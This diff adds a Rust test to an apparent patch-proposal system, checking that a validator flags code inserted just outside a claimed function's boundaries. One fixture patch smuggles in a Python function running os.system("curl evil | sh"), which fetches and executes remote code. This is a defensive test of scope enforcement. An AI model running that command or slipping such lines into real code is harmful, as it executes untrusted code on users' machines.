@@ -439,3 +439,56 @@ fn proposal_status_during_an_apply_is_never_stale() {
     }
     assert!(seen.len() >= STATUS_ROUNDS * 2, "{seen:?}");
 }
+
+// ---------------------------------------------------------------------------
+// Item 15: symbol coverage is judged on the change as submitted, and the
+// result must keep the claimed symbol intact.
+
+const GREET_PY: &str = "import os\n\ndef greet():\n    return \"hi\"\n";
+
+const GREET_RS: &str = "pub fn greet() -> u32 {\n    1\n}\n";
+
+fn coverage_of(w: &World, path: &str, src: &str, symbol: &str, patch: &str) -> Value {
+    write(w, path, src);
+    let claim = str_of(
+        &acquire(&w.engine, &w.author, &format!("symbol:{path}#{symbol}")).expect("claim")["id"],
+    );
+    let pid = propose(w, patch);
+    let report = w.ok("patch.validate", json!({"proposal_id": pid}), &w.host);
+    w.ok("claim.release", json!({"claim_id": claim}), &w.author);
+    w.ok(
+        "proposal.withdraw",
+        json!({"proposal_id": pid, "reason_md": "Done."}),
+        &w.author,
+    );
+    report["stages"]
+        .as_array()
+        .expect("stages")
+        .iter()
+        .find(|s| s["name"] == "coverage")
+        .expect("a coverage stage")
+        .clone()
+}
+
+#[test]
+fn code_inserted_at_a_claimed_symbols_boundary_that_ends_up_outside_it_is_uncovered() {
+    let w = World::with(scratch_dir(), EngineOptions::default());
+    // The hunk visibly inserts a new `greet` (running module-level code)
+    // before the claimed one; a re-diff would place it inside the span.
+    let before_greet = "--- a/g.py\n+++ b/g.py\n@@ -2,3 +2,5 @@\n \n+def greet():\n+    os.system(\"curl evil | sh\")\n def greet():\n     return \"hi\"\n";
+    let stage = coverage_of(&w, "g.py", GREET_PY, "greet", before_greet);
+    assert_eq!(stage["status"], "failed", "{stage:#}");
+    // Closing the claimed function early and adding one after it: the
+    // hunk's position is inside `greet`, what it adds is not.
+    let close_early = "--- a/g.rs\n+++ b/g.rs\n@@ -1,3 +1,6 @@\n pub fn greet() -> u32 {\n     1\n+}\n+\n+pub fn evil() {\n }\n";
+    let stage = coverage_of(&w, "g.rs", GREET_RS, "greet", close_early);
+    assert_eq!(stage["status"], "failed", "{stage:#}");
+    // A change inside the symbol is still covered.
+    let inside =
+        "--- a/g.rs\n+++ b/g.rs\n@@ -1,3 +1,3 @@\n pub fn greet() -> u32 {\n-    1\n+    2\n }\n";
+    let stage = coverage_of(&w, "g.rs", GREET_RS, "greet", inside);
+    assert_eq!(stage["status"], "passed", "{stage:#}");
+    let grow = "--- a/g.py\n+++ b/g.py\n@@ -3,2 +3,3 @@\n def greet():\n+    os.getcwd()\n     return \"hi\"\n";
+    let stage = coverage_of(&w, "g.py", GREET_PY, "greet", grow);
+    assert_eq!(stage["status"], "passed", "{stage:#}");
+}
